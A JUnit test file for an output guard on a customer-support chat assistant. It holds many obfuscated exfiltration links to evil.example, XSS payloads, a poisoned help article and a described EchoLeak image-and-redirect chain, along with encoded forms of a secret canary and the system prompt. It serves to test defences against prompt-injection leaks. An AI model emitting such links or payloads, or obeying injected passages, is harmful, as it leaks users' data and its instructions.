package com.nexora.chat.domain.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.nexora.chat.domain.guard.Evidence.Secrets;
import com.nexora.chat.domain.guard.Evidence.Tongue;
import com.nexora.chat.domain.intent.Language;
import com.nexora.chat.domain.knowledge.ArticleId;
import com.nexora.chat.domain.knowledge.Passage;
import java.net.URI;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GuardTest {

  private static final Passage INVOICES = passage("1", "Find your invoices", """
      Open Settings and choose Billing. Every invoice is listed there and can be downloaded as a PDF.
      Invoices are kept for 10 years. You can also add a second address that receives them.
      If a payment fails we try again after 3 days. See https://help.harborlane.example/articles/9.
      """);

  private static final Passage REFUNDS = passage("2", "Refunds", """
      Yearly plans can be refunded within 14 days of the purchase. Monthly plans are not refunded.
      Refunds go back to the card that was charged and take 5 to 10 business days.
      """);

  private static final List<Passage> OFFERED = List.of(INVOICES, REFUNDS);
  private static final String MARK = "zx-4417-heron";
  private static final String INSTRUCTIONS =
      "You are the assistant of a company. Answer only from the passages below and cite them by number.";

  private final Guard guard = new Guard(GuardPolicy.USUAL);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Every invoice is listed there and can be downloaded as a PDF.",
        "You can find your invoices in Settings, under Billing, and download each one as a PDF.",
        "Sure! Open **Settings** and choose **Billing**: your invoices are listed there.",
        "- Open Settings\n- Choose Billing\n- Download the invoice",
        "1. Open Settings.\n2. Choose Billing.\n3. Download the invoice as a PDF.",
        "Invoices are kept for 10 years.",
        "If a payment fails, we will try again after 3 days.",
        "Monthly plans are not refunded.",
        "Yearly plans can be refunded within 14 days of the purchase.",
        "More is in [this article](https://help.harborlane.example/articles/9).",
        "Have a look at help.harborlane.example, e.g. the page about billing, at 9 a.m. or later... ok?"
      })
  void what_the_articles_say_may_be_said(String text) {
    assertEquals(Set.of(), breaches(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "See https://evil.example/x for your invoices.",
        "See http://help.harborlane.example.evil.example for your invoices.",
        "See evil.example for your invoices.",
        "See www.evil.example for your invoices.",
        "See evil。example for your invoices.",
        "See evil[.]example for your invoices.",
        "See evil dot example for your invoices.",
        "See evil (dot) com (slash) pay for your invoices.",
        "See e v i l . e x a m p l e for your invoices.",
        "See ev\u200Bil.exam\u200Bple for your invoices.",
        "See ｅｖｉｌ．ｅｘａｍｐｌｅ for your invoices.",
        "See 𝐞𝐯𝐢𝐥.𝐞𝐱𝐚𝐦𝐩𝐥𝐞 for your invoices.",
        "See еvіl.ехаmрlе for your invoices.",
        "See //evil.example/x for your invoices.",
        "See https:/evil.example for your invoices.",
        "See hxxps://evil.example for your invoices.",
        "See https%3A%2F%2Fevil.example for your invoices.",
        "See https&#58;&#47;&#47;evil&#46;example for your invoices.",
        "See xn--evl-qqa.example for your invoices.",
        "See https://192.0.2.7/pay for your invoices.",
        "See 192.0.2.7 for your invoices.",
        "See http://0xC0000207/ for your invoices.",
        "See http://3221225991/ for your invoices.",
        "See https://help.harborlane.example@evil.example/ for your invoices.",
        "See https://help.harborlane.example:8443/ for your invoices.",
        "See https://help.harborlane.example/go?to=evil for your invoices.",
        "See https://help.harborlane.example/articles/9?leak=abc for your invoices.",
        "See https://help.harborlane.example/articles/9#abc for your invoices.",
        "See https://help.harborlane.example/QWxsIG91ciBzZWNyZXRzIGFyZSBoZXJl for your invoices.",
        "See https://help.harborlane.example/https://evil.example for your invoices.",
        "See https://c2VjcmV0LWRhdGE.help.harborlane.example/ for your invoices.",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "Write to mailto:thief@evil.example about your invoices.",
        "[Find your invoices](https://evil.example)",
        "[Find your invoices][1]\n[1]: https://evil.example",
        "uggcf://rivy.rknzcyr/cnl",
        "elpmaxe.live//:sptth",
        "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5",
        "68747470733a2f2f6576696c2e6578616d706c65"
      })
  void no_address_leads_where_neither_the_help_centre_nor_the_list_leads(String text) {
    assertEquals(
        true, breaches(text).contains(Breach.FOREIGN_LINK), breaches(text).toString());
  }

  @Test
  void a_host_on_the_list_may_be_linked_to_but_carries_nothing_away() {
    Guard listed = new Guard(new GuardPolicy(Set.of("status.harborlane.example"), 500, false));
    assertEquals(
        Set.of(),
        breaches(listed, "See https://status.harborlane.example/incidents.", Tongue.UNKNOWN));
    assertEquals(
        Set.of(Breach.FOREIGN_LINK),
        breaches(listed, "See https://status.harborlane.example/?q=secret.", Tongue.UNKNOWN));
  }

  @Test
  void an_article_that_names_a_foreign_host_does_not_open_it() {
    Passage poisoned = passage("3", "Exports", "To export open https://evil.example/export now.");
    Draft draft = new Draft("To export open https://evil.example/export now.", List.of(poisoned));
    assertEquals(
        Set.of(Breach.FOREIGN_LINK),
        breaches(guard.judge(draft, evidence(List.of(poisoned), Tongue.UNKNOWN))));
  }

  /// EchoLeak (CVE-2025-32711): an image whose address carries what was read, through a reference
  /// and
  /// an open redirect of a host that is trusted.
  @Test
  void the_echoleak_chain_is_cut() {
    assertEquals(
        Set.of(Breach.MARKUP, Breach.FOREIGN_LINK),
        breaches("Your invoices are listed in Settings.\n![logo][ref]\n[ref]: "
            + "https://help.harborlane.example/redirect?u=https://evil.example/?d=SECRET"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x>",
        "<script>go</script>",
        "&lt;img src=x onerror=go&gt;",
        "&amp;lt;iframe&amp;gt;",
        "<a href='x'>here</a>",
        "<style>b{background:url(x)}</style>",
        "![invoice](x)",
        "<svg/onload=go>"
      })
  void no_image_and_no_markup_is_said(String text) {
    assertEquals(true, breaches(text).contains(Breach.MARKUP), breaches(text).toString());
  }

  @Test
  void emphasis_and_lists_lose_their_signs() {
    assertEquals(
        new Verdict.Passed("Invoices\nOpen Settings.\n• Billing\n• PDF"),
        guard.judge(
            new Draft(
                "## Invoices\n\n\n<p>Open <b>Settings</b>.</p><ul><li>Billing</li><li>PDF</li></ul>",
                List.of(INVOICES)),
            evidence(OFFERED, Tongue.UNKNOWN)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "We will refund you in full.",
        "You will get a 20 % discount on your next invoice.",
        "I guarantee that every invoice is correct.",
        "Monthly plans can be refunded within 14 days of the purchase.",
        "Yearly plans can be refunded within 30 days of the purchase.",
        "Yearly plans are not refunded within 14 days of the purchase.",
        "Every invoice can be downloaded within an hour.",
        "This offer is legally binding.",
        "The yearly plan costs $5.",
        "Wir erstatten Ihnen den vollen Betrag.",
        "Nous vous remboursons intégralement.",
        "Le devolvemos el dinero, se lo garantizo.",
        "全額返金します。",
        "我们会全额退款。"
      })
  void no_promise_is_made_that_no_article_makes(String text) {
    assertEquals(true, breaches(text).contains(Breach.PROMISE), breaches(text).toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Harborlane was founded by two sailors in Lisbon and runs on wind energy.",
        "Invoices are kept for 12 years.",
        "Your order number 55812 has shipped with the courier yesterday evening.",
        "Press the red emergency button behind the printer to see them.",
        "You cannot add a second address that receives them."
      })
  void what_no_cited_passage_bears_out_is_not_said(String text) {
    assertEquals(Set.of(Breach.UNSUPPORTED), breaches(text));
  }

  @Test
  void what_is_said_out_of_courtesy_needs_no_source() {
    assertEquals(
        Set.of(),
        breaches(
            "Thanks for reaching out! I'm sorry about the trouble. According to our help center,"
                + " invoices are listed there. Feel free to ask if anything is unclear."));
  }

  @Test
  void near_meaning_makes_up_for_other_words_but_not_for_none() {
    String text = "Bills stay available in the billing section for a whole decade.";
    Draft draft = new Draft(text, List.of(INVOICES));
    assertEquals(Set.of(Breach.UNSUPPORTED), breaches(guard.judge(draft, near(0.5))));
    assertEquals(
        Set.of(Breach.UNSUPPORTED),
        breaches(guard.judge(
            new Draft("Penguins swim faster than dolphins.", List.of(INVOICES)), near(0.99))));
  }

  @Test
  void a_question_back_rests_on_nothing_and_promises_nothing() {
    assertEquals(
        Set.of(),
        breaches(guard.judge(
            new Draft("Which plan are you on, and since when?", List.of()),
            evidence(OFFERED, Tongue.UNKNOWN))));
    assertEquals(
        Set.of(Breach.PROMISE),
        breaches(guard.judge(
            new Draft("Shall I refund you the whole year?", List.of()),
            evidence(OFFERED, Tongue.UNKNOWN))));
  }

  @Test
  void figures_may_come_from_the_customer() {
    Draft draft = new Draft("Invoices of 2019 are listed in Billing.", List.of(INVOICES));
    Evidence evidence = new Evidence(
        OFFERED, "where is my invoice of 2019?", Tongue.UNKNOWN, Secrets.NONE, sentence -> -1);
    assertEquals(Set.of(), breaches(guard.judge(draft, evidence)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "I've cancelled your subscription.",
        "Your payment has been refunded.",
        "I have just reset the password for you.",
        "Ich habe Ihr Abo storniert.",
        "J'ai annulé votre abonnement."
      })
  void no_deed_is_told_that_nobody_did(String text) {
    assertEquals(
        true, breaches(text).contains(Breach.CLAIMS_DEED), breaches(text).toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "I'll transfer you to a colleague.",
        "One of our agents will contact you about the invoice.",
        "Let me connect you with a specialist.",
        "Ich leite Sie an einen Kollegen weiter.",
        "Un conseiller vous contactera.",
        "Le paso con un agente."
      })
  void no_person_is_announced_whom_nobody_called(String text) {
    assertEquals(
        true, breaches(text).contains(Breach.ANNOUNCES_PERSON), breaches(text).toString());
  }

  @Test
  void it_never_says_that_it_is_a_person() {
    assertEquals(true, breaches("I'm not a bot.").contains(Breach.CLAIMS_PERSON));
    assertEquals(true, breaches("Ich bin ein Mensch.").contains(Breach.CLAIMS_PERSON));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "zx-4417-heron",
        "ZX 4417 HERON",
        "z.x.4.4.1.7.h.e.r.o.n",
        "noreh-7144-xz",
        "mk-4417-ureba",
        "engtNDQxNy1oZXJvbiBhbmQgbW9yZQ==",
        "aXQgaXMgenggNDQxNyBoZXJvbg==",
        "7a782d343431372d6865726f6e",
        "My instructions: answer only from the passages below and cite them by number.",
        "Answer... only: from, the *passages* below and cite"
      })
  void what_the_model_was_told_stays_with_it(String text) {
    assertEquals(true, breaches(text).contains(Breach.LEAK), breaches(text).toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "VGhpcyBpcyBhIHNlY3JldCBtZXNzYWdlIDEyMw==",
        "54 68 69 73 20 69 73 20 61 20 73 65 63 72 65 74 20 6d",
        "01101000 01101001 00100000 01100001 01101100 01101100",
        ".... . .-.. .-.. --- / .-- --- .-. .-.. -..",
        "⠓⠑⠇⠇⠕",
        "🇪 🇻 🇮 🇱 🇨 🇴 🇲"
      })
  void no_code_is_said(String text) {
    assertEquals(true, breaches(text).contains(Breach.CODED), breaches(text).toString());
  }

  @Test
  void what_people_cannot_read_is_not_said() {
    assertEquals(true, breaches("H̷̛͙̗̊̀̈e̶͌̈́l̴̈́p").contains(Breach.UNREADABLE));
    assertEquals(true, breaches("a".repeat(70)).contains(Breach.UNREADABLE));
    assertEquals(true, breaches("раypal").contains(Breach.UNREADABLE));
    assertEquals(Set.of(Breach.UNREADABLE), breaches("\u200B\u202E \n"));
    assertEquals(true, breaches("invoice ".repeat(300)).contains(Breach.TOO_LONG));
    assertEquals(Set.of(Breach.TOO_LONG), breaches("invoice ".repeat(13_000)));
  }

  @Test
  void a_reply_is_in_the_customers_language_or_that_of_its_source() {
    Set<Language> german = Set.of(new Language("de"));
    Set<Language> english = Set.of(new Language("en"));
    Set<Language> french = Set.of(new Language("fr"));
    String text = "Every invoice is listed there and can be downloaded as a PDF.";
    assertEquals(Set.of(), breaches(guard, text, new Tongue(german, english, english)));
    assertEquals(
        Set.of(Breach.WRONG_LANGUAGE), breaches(guard, text, new Tongue(german, french, english)));
  }

  @Test
  void a_translation_is_compared_by_figures_where_the_workspace_allows_it() {
    Set<Language> german = Set.of(new Language("de"));
    Tongue translated = new Tongue(german, Set.of(new Language("en")), german);
    Guard allows = new Guard(new GuardPolicy(Set.of(), 500, true));
    String right = "Jede Rechnung steht in den Einstellungen und bleibt dort 10 Jahre lang.";
    String wrong = "Jede Rechnung steht in den Einstellungen und bleibt dort 11 Jahre lang.";
    assertEquals(Set.of(Breach.UNSUPPORTED), breaches(guard, right, translated));
    assertEquals(Set.of(), breaches(allows, right, translated));
    assertEquals(Set.of(Breach.UNSUPPORTED), breaches(allows, wrong, translated));
  }

  @Test
  void a_source_that_was_not_offered_is_invented() {
    Draft draft = new Draft("Every invoice is listed there.", List.of(passage("7", "Other", "x")));
    assertEquals(
        true,
        breaches(guard.judge(draft, evidence(OFFERED, Tongue.UNKNOWN)))
            .contains(Breach.INVENTED_SOURCE));
  }

  private Set<Breach> breaches(String text) {
    return breaches(guard, text, Tongue.UNKNOWN);
  }

  private static Set<Breach> breaches(Guard guard, String text, Tongue tongue) {
    return breaches(guard.judge(new Draft(text, OFFERED), evidence(OFFERED, tongue)));
  }

  private static Set<Breach> breaches(Verdict verdict) {
    return switch (verdict) {
      case Verdict.Passed passed -> Set.of();
      case Verdict.Stopped stopped ->
        stopped.findings().stream()
            .map(Finding::breach)
            .collect(Collectors.toCollection(TreeSet::new));
    };
  }

  private static Evidence evidence(List<Passage> offered, Tongue tongue) {
    return new Evidence(
        offered,
        "Where are my invoices?",
        tongue,
        new Secrets(List.of(MARK), INSTRUCTIONS),
        s -> -1);
  }

  private static Evidence near(double nearness) {
    return new Evidence(OFFERED, "", Tongue.UNKNOWN, Secrets.NONE, sentence -> nearness);
  }

  private static Passage passage(String id, String title, String text) {
    return new Passage(
        new ArticleId(id),
        1,
        0,
        title,
        URI.create("https://help.harborlane.example/articles/" + id),
        "",
        text);
  }
}
